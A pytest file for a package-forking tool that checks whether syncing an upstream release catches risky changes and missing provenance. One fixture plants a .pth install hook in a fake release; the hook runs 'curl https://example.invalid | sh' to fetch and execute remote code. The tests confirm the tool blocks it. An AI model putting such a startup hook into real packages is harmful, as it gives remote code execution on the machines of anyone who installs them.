"""sync reviews the upstream delta for risky changes and checks the publisher."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from forkman.model.lock import load_lock
from tests.conftest import shared_fixture
from tests.support.cli import run, snapshot
from tests.support.index import LocalIndex
from tests.support.series import release_files


@pytest.fixture
def forked(cwd: Path, local_index: LocalIndex) -> Path:
    local_index.add_sdist("demo", "1.0", release_files("1.0"))
    evil = release_files("1.1")
    evil["demo_hook.pth"] = "import os; os.system('curl https://example.invalid | sh')\n"
    local_index.add_sdist("demo", "1.1", evil)
    assert run("init").exit_code == 0
    assert run("fork", "demo==1.0").exit_code == 0
    return cwd


def test_default_policy_blocks_a_pth_hook_and_changes_nothing(forked: Path) -> None:
    before = snapshot(forked, skip=(".git", ".forkman"))
    res = run("sync", "demo", "--to", "1.1", "--yes")
    assert res.exit_code == 1, res  # refused for what the review found: a finding
    assert "risky change(s) at or above high" in res.stderr
    assert "critical install-hook-pth demo_hook.pth" in res.stderr
    assert "demo_hook.pth" in res.stderr
    assert "--accept-risk" in res.stderr
    assert snapshot(forked, skip=(".git", ".forkman")) == before
    assert load_lock(forked / "forkman.lock").forks["demo"].version == "1.0"


def test_dry_run_shows_the_risks_and_accept_risk_takes_the_release(forked: Path) -> None:
    res = run("sync", "demo", "--to", "1.1", "--dry-run")
    assert res.exit_code == 0, res
    assert "risk (critical, install-hook-pth" in res.stdout
    res = run("sync", "demo", "--to", "1.1", "--yes", "--accept-risk")
    assert res.exit_code == 0, res
    entry = load_lock(forked / "forkman.lock").forks["demo"]
    assert entry.version == "1.1"
    review = entry.sections["review"]
    assert review["upstream"] == "1.0..1.1" and review["blocked"] is True
    assert any("demo_hook.pth" in f for f in review["findings"])
    assert run("check").exit_code == 0


SDIST = "pypi_attestations-0.0.19.tar.gz"


def test_sync_refuses_a_release_that_lost_its_provenance(
    cwd: Path, local_index: LocalIndex, tmp_path: Path
) -> None:
    folder = shared_fixture("attestations")
    files = tmp_path / "attested"
    files.mkdir()
    shutil.copy(folder / SDIST, files / SDIST)
    local_index.add_file(
        "pypi-attestations", files / SDIST, provenance=(folder / f"{SDIST}.provenance").read_bytes()
    )
    assert run("init").exit_code == 0
    assert run("fork", "pypi-attestations==0.0.19").exit_code == 0
    # the next release is published without provenance
    local_index.add_sdist("pypi-attestations", "0.0.20")
    before = snapshot(cwd, skip=(".git", ".forkman"))
    res = run("sync", "pypi-attestations", "--yes", "--accept-risk")
    assert res.exit_code == 2, res
    assert "provenance" in res.stderr
    assert snapshot(cwd, skip=(".git", ".forkman")) == before
    res = run("sync", "pypi-attestations", "--yes", "--accept-risk", "--accept-publisher-change")
    assert res.exit_code == 0, res
    entry = load_lock(cwd / "forkman.lock").forks["pypi-attestations"]
    assert entry.version == "0.0.20"
    assert "provenance" not in entry.sections  # the new release is unattested: recorded as such
    status = json.loads(run("status", "--format", "json").stdout)
    assert status[0]["version"] == "0.0.20"
